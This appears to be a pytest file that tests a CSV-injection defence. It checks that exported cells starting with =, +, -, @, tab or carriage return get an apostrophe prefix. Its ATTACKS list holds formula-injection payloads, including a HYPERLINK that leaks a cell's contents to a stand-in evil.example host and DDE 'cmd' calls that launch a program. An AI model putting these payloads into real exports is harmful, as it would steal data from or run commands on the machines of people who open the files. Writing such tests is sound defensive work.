"""CSV injection: every export cell that could start a formula is neutralized."""

from __future__ import annotations

import csv
import io

import pytest

from clickpro.csv_safe import SafeWriter, neutralize

ATTACKS = [
    '=1+HYPERLINK("https://evil.example/?"&A2,"ver")',
    '+HYPERLINK("https://evil.example")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "+1+2",
    "=",
]


@pytest.mark.parametrize("payload", ATTACKS)
def test_formula_starts_get_an_apostrophe(payload):
    assert neutralize(payload) == "'" + payload


@pytest.mark.parametrize("value", ["+5511987654321", "-12.5", "-3", "Ana", "", "a=b", " =x"])
def test_plain_values_are_unchanged(value):
    assert neutralize(value) == value


def test_non_text_is_unchanged():
    assert neutralize(None) is None and neutralize(-5) == -5


def test_safe_writer_neutralizes_every_cell():
    buffer = io.StringIO()
    SafeWriter(buffer, delimiter=";").writerow(["=1+1", "@x", "ok", 7])
    assert next(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";")) == [
        "'=1+1", "'@x", "ok", "7"
    ]  # fmt: skip
